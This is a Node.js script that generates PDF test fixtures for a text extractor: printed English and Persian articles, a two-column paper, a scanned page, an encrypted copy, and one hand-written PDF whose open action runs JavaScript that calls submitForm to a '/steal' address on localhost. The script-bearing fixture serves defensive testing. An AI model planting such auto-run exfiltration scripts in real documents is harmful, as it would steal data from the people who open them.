// Makes the PDF fixtures of tests/unit/extract/pdf*.test.ts: real PDFs printed
// by headless Chromium (Playwright) from HTML, plus two written by hand.
// The PDFs are committed; run this only to regenerate them:
//   node scripts/make-pdf-fixtures.mjs
// Needs Chromium (CHROMIUM_PATH, else /usr/bin/chromium), a font with Arabic
// script (Debian: fonts-dejavu-core) and qpdf for the encrypted one.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const out = path.join(root, 'tests', 'fixtures', 'pdf');
const fixture = (name) => path.join(out, name);

/** Soft hyphens in long words, so justified lines end in hyphenated breaks. */
const shy = (text) =>
  text.replace(/\p{L}{9,}/gu, (word) => word.replace(/(?<=\p{L}{4})(?=\p{L}{4})/gu, '\u00ad'));

const ENGLISH_STYLE = `
  body { font-family: 'DejaVu Serif', serif; font-size: 11pt; line-height: 1.35; margin: 0; }
  h1 { font-size: 20pt; margin: 0 0 14pt; }
  h2 { font-size: 14pt; margin: 14pt 0 6pt; }
  p { text-align: justify; hyphens: manual; margin: 0 0 8pt; }
  .indented p { margin: 0; text-indent: 1.5em; }
  .indented p:first-child { text-indent: 0; }`;

const ENGLISH_PARAGRAPHS = [
  'The salt marsh keeps its own archive. Every spring tide lays down a thin film of silt, and every storm leaves a darker band of sand and broken shell. Reading these layers is slow work, but the information they hold about past floods is remarkably precise.',
  'Our field season began in early March, when the ground was still hard in the mornings. We walked the transects before dawn, recording the height of the water against painted poles and collecting observations about the vegetation at each station.',
  'The long-term record matters more than any single measurement. A marsh that rises with the sea survives; one that falls behind drowns within a generation. Only a long-term series of careful measurements can tell the two apart.',
];
const ENGLISH_INDENTED = [
  'Sediment cores were taken at twelve stations along the northern creek. Each core was sliced into centimetre layers, dried, weighed and sieved, and the coarse fraction was examined under a microscope for foraminifera and plant fragments.',
  'The cores from the inner marsh were the most informative. They showed a steady accumulation of fine organic material interrupted by three distinct sand layers, which we interpret as the deposits of exceptional storms.',
  'Radiocarbon dates on plant fragments above and below each sand layer bracket the storms within a few decades. The youngest layer coincides with a documented surge, which gives us confidence in the interpretation of the older ones.',
  'Not every layer is so easy to read. Burrowing crabs mix the upper centimetres, roots penetrate deeper, and the compaction of peat under its own weight distorts the apparent accumulation rates in the older sections of the cores.',
];
const ENGLISH_CLOSING = [
  'What the marsh teaches is patience. Its record is written in a script that takes decades to learn and centuries to write, and the conversations between neighbouring stations reveal more than any single core.',
  'We intend to return next spring with a larger team, extend the transects into the southern marsh, and repeat the measurements at every station so that the long-term series continues without interruption.',
  'The Anglo-Dutch survey of the estuary, carried out two centuries ago, remains the earliest reliable map of the marsh edge, and we compared our stations with it wherever the old benchmarks could still be found.',
];

function englishHtml() {
  const paragraphs = (list) => list.map((text) => `<p>${shy(text)}</p>`).join('\n');
  return `<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Reading the Salt Marsh</title><style>${ENGLISH_STYLE}</style></head><body>
<h1>Reading the Salt Marsh</h1>
${paragraphs(ENGLISH_PARAGRAPHS)}
<h2>Methods in the Field</h2>
<div class="indented">${paragraphs(ENGLISH_INDENTED)}</div>
<h2>What Comes Next</h2>
${paragraphs(ENGLISH_CLOSING)}
</body></html>`;
}

const PERSIAN_PARAGRAPHS = [
  'کتابخانه‌های کهن ایران تنها جای نگهداری کتاب نبودند؛ آن‌ها مرکز گفت‌وگو، ترجمه و آموزش بودند. در این یادداشت به سه نمونه از این کتابخانه‌ها می‌پردازیم و نشان می‌دهیم که چگونه دانش از نسلی به نسل دیگر رسید.',
  'نخستین نمونه کتابخانهٔ شهر ری است که در سدهٔ چهارم هجری هزاران نسخهٔ خطی داشت. پژوهشگران از شهرهای دور به آنجا می‌آمدند تا متن‌های پزشکی و نجوم را بخوانند و از آن‌ها رونویسی کنند.',
  'دومین نمونه کتابخانهٔ رصدخانهٔ مراغه است. در فهرست این کتابخانه بیش از 400 نسخه ثبت شده بود و دانشمندان بسیاری از سرزمین‌های دیگر برای کار در آن به مراغه سفر کردند.',
  'امروز پژوهشگر می‌تواند یادداشت‌های خود را در نرم‌افزار Dossier نگه دارد و بخش‌هایی از متن را علامت بزند. این کار همان چیزی است که کاتبان قدیم با حاشیه‌نویسی انجام می‌دادند.',
];

function persianHtml() {
  const paragraphs = PERSIAN_PARAGRAPHS.map((text) => `<p>${text}</p>`).join('\n');
  return `<!doctype html><html lang="fa" dir="rtl"><head><meta charset="utf-8">
<title>کتابخانه‌های کهن</title><style>
  body { font-family: 'DejaVu Sans', sans-serif; font-size: 13pt; line-height: 1.6; margin: 0; }
  h1 { font-size: 22pt; margin: 0 0 14pt; }
  p { text-align: justify; margin: 0 0 10pt; }
</style></head><body>
<h1>کتابخانه‌های کهن</h1>
${paragraphs}
</body></html>`;
}

const PAPER_ABSTRACT =
  'We describe a method for reading the tidal record preserved in estuary sediments and compare it with tide gauge data from three harbours. The method recovers storm surges older than any written record.';
const PAPER_SECTIONS = [
  [
    'Introduction',
    [
      'Estuaries trap sediment on every tide. Where the supply is steady the layers are thin and regular, and each one records the height the water reached during the fortnight it was laid down.',
      'Earlier work treated these layers as noise around a long trend. We argue instead that their thickness is a signal in its own right, one that can be calibrated against the tide gauges that have operated in the same harbours since the nineteenth century.',
      'The calibration depends on a simple observation: a higher tide floods a wider area of the marsh and leaves a thicker layer near the channel, while a neap tide barely reaches the inner stations at all.',
    ],
  ],
  [
    'Data and Sites',
    [
      'We sampled three estuaries on the same coast. Each has a tide gauge within ten kilometres, and each has a marsh that has not been drained or embanked in the period covered by the gauge.',
      'At every site we cut a trench across the marsh edge and took cores at regular intervals along it. The cores were split lengthwise, photographed under constant light and measured at a resolution of one millimetre.',
      'The gauge records were taken from the published yearly tables. Where a gauge had been moved, we corrected its readings to the datum of the later position using the overlap between the two series.',
    ],
  ],
  [
    'Results',
    [
      'Layer thickness and the highest tide of each fortnight agree closely at all three sites. The agreement is weakest in winter, when storms rework the surface of the marsh and erase the thinnest layers.',
      'Below the depth reached by the gauge records the layers continue without a break. Reading them with the same calibration gives a tidal record that extends roughly two centuries further back.',
      'Three unusually thick layers stand out in the older part of the record. Their ages match storms described in parish registers, which supports our reading of them as surge deposits.',
    ],
  ],
];

function paperHtml() {
  const sections = PAPER_SECTIONS.map(
    ([heading, paragraphs]) =>
      `<h2>${heading}</h2>${paragraphs.map((text) => `<p>${shy(text)}</p>`).join('')}`,
  ).join('\n');
  return `<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>paper.html</title><style>
  body { font-family: 'DejaVu Serif', serif; font-size: 10pt; line-height: 1.3; margin: 0; }
  h1 { font-size: 18pt; text-align: center; margin: 0 0 6pt; }
  .authors { text-align: center; margin: 0 0 12pt; }
  .abstract { margin: 0 2em 14pt; font-style: italic; text-align: justify; }
  .columns { column-count: 2; column-gap: 2.2em; }
  h2 { font-size: 12pt; margin: 8pt 0 4pt; }
  p { text-align: justify; hyphens: manual; margin: 0 0 6pt; }
</style></head><body>
<h1>Tides Written in Mud</h1>
<p class="authors">A. Rivers and B. Marsh</p>
<p class="abstract">${PAPER_ABSTRACT}</p>
<div class="columns">${sections}</div>
</body></html>`;
}

function scannedTextHtml() {
  return `<!doctype html><html><body style="margin:40px;font:20px serif;width:700px">
<h1>A page that was scanned</h1>
<p>${ENGLISH_PARAGRAPHS.join('</p><p>')}</p></body></html>`;
}

const RUNNING_HEADER = `<div style="font-size:8pt;width:100%;text-align:center;font-family:serif">
Coastal Field Journal — Volume 12, Spring 2024</div>`;
const PAGE_NUMBER_FOOTER = `<div style="font-size:9pt;width:100%;text-align:center;font-family:serif">
<span class="pageNumber"></span></div>`;

async function printPdf(browser, html, options) {
  const page = await browser.newPage();
  await page.setContent(html, { waitUntil: 'load' });
  const pdf = await page.pdf({ printBackground: false, ...options });
  await page.close();
  return Buffer.from(pdf);
}

async function screenshot(browser, html) {
  const page = await browser.newPage({ viewport: { width: 780, height: 900 } });
  await page.setContent(html, { waitUntil: 'load' });
  const png = await page.screenshot({ type: 'png' });
  await page.close();
  return Buffer.from(png);
}

/** PDF date string: D:YYYYMMDDHHmmSS with a UTC offset. */
const PDF_DATE = "D:20240315093000+01'00'";

/**
 * Gives a PDF an Info dictionary through an incremental update: a new object
 * and a new cross-reference section after the old ones, as PDF writers append
 * changes. Strings are UTF-16BE hex so any script fits.
 */
function withInfo(pdf, info) {
  const text = pdf.toString('latin1');
  const previousXref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)[1]);
  const trailer = text.slice(text.lastIndexOf('trailer'));
  const size = Number(/\/Size\s+(\d+)/.exec(trailer)[1]);
  const rootRef = /\/Root\s+(\d+\s+\d+\s+R)/.exec(trailer)[1];
  const hex = (value) => `<FEFF${Buffer.from(value, 'utf16le').swap16().toString('hex')}>`;
  const entries = Object.entries(info)
    .map(([key, value]) => `/${key} ${key.endsWith('Date') ? `(${value})` : hex(value)}`)
    .join(' ');
  const head = pdf.toString('latin1').endsWith('\n') ? '' : '\n';
  const objectOffset = pdf.length + head.length;
  const object = `${head}${size} 0 obj\n<< ${entries} >>\nendobj\n`;
  const xrefOffset = pdf.length + object.length;
  const update =
    object +
    `xref\n${size} 1\n${String(objectOffset).padStart(10, '0')} 00000 n \n` +
    `trailer\n<< /Size ${size + 1} /Root ${rootRef} /Info ${size} 0 R /Prev ${previousXref} >>\n` +
    `startxref\n${xrefOffset}\n%%EOF\n`;
  return Buffer.concat([pdf, Buffer.from(update, 'latin1')]);
}

/** A one-page PDF written by hand whose catalog asks to run JavaScript on opening. */
function javascriptPdf() {
  const content = [
    'BT /F1 18 Tf 72 740 Td (A document with a script) Tj ET',
    'BT /F1 11 Tf 72 700 Td (This file asks its reader to run JavaScript when it opens.) Tj ET',
    'BT /F1 11 Tf 72 684 Td (Dossier reads only its text; the script never runs.) Tj ET',
  ].join('\n');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(opener) 5 0 R] >> >> /Lang (en-GB) >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 6 0 R /AA << /O 5 0 R >> >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    "<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://127.0.0.1:9/steal'\\);) >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Title (Microsoft Word - scripted.docx) /Author (Ada Example) /CreationDate (D:20230102030405Z) >>',
  ];
  let body = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const offset = body.length;
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 7 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

async function main() {
  mkdirSync(out, { recursive: true });
  const browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
    args: ['--no-sandbox'],
  });
  try {
    const a5 = {
      format: 'A5',
      margin: { top: '22mm', bottom: '20mm', left: '16mm', right: '16mm' },
    };
    const english = await printPdf(browser, englishHtml(), {
      ...a5,
      displayHeaderFooter: true,
      headerTemplate: RUNNING_HEADER,
      footerTemplate: PAGE_NUMBER_FOOTER,
    });
    writeFileSync(
      fixture('english-article.pdf'),
      withInfo(english, {
        Title: 'Reading the Salt Marsh',
        Author: 'Mara Lindqvist',
        CreationDate: PDF_DATE,
      }),
    );

    const persian = await printPdf(browser, persianHtml(), {
      ...a5,
      displayHeaderFooter: true,
      headerTemplate: '<span></span>',
      footerTemplate: PAGE_NUMBER_FOOTER,
    });
    writeFileSync(fixture('persian-article.pdf'), persian);

    const paper = await printPdf(browser, paperHtml(), {
      format: 'A4',
      margin: { top: '20mm', bottom: '20mm', left: '18mm', right: '18mm' },
      displayHeaderFooter: true,
      headerTemplate: '<span></span>',
      footerTemplate: PAGE_NUMBER_FOOTER,
    });
    writeFileSync(fixture('two-column-paper.pdf'), withInfo(paper, { Title: 'paper.html' }));

    const scan = await screenshot(browser, scannedTextHtml());
    const scannedHtml = `<!doctype html><html><body style="margin:0">
<img style="width:100%" src="data:image/png;base64,${scan.toString('base64')}"></body></html>`;
    writeFileSync(fixture('scanned.pdf'), await printPdf(browser, scannedHtml, { format: 'A5' }));
  } finally {
    await browser.close();
  }

  writeFileSync(fixture('javascript-action.pdf'), javascriptPdf());
  execFileSync('qpdf', [
    '--encrypt',
    'reader-password',
    'owner-password',
    '256',
    '--',
    fixture('english-article.pdf'),
    fixture('encrypted.pdf'),
  ]);
  for (const name of [
    'english-article',
    'persian-article',
    'two-column-paper',
    'scanned',
    'encrypted',
    'javascript-action',
  ]) {
    console.log(`${name}.pdf: ${readFileSync(fixture(`${name}.pdf`)).length} bytes`);
  }
}

await main();
